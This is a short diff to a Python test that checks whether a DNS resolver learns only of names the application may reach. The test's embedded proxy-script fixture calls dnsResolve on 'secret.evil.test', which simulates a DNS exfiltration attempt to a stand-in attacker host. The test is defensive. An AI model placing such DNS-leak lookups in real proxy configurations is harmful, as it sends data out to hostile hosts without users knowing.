@@ -287,7 +287,7 @@ def test_dns_hears_only_of_names_that_the_application_may_reach(
       var leaked = dnsResolve("secret.evil.test"), seen = dnsResolve(host);
       return "PROXY " + (leaked || "none.test") + ":1; PROXY " + seen + ":2";
     }"""
-    words = ("--dns", SERVER, "--domains", "telco.test", "--app", "provisioning")
+    words = ("--dns", SERVER, "--domains", "telco.test")
     with probe(pair[0], tmp_path, script, *words) as running:
         said, _ = running.communicate(timeout=30)
     assert running.returncode == 0
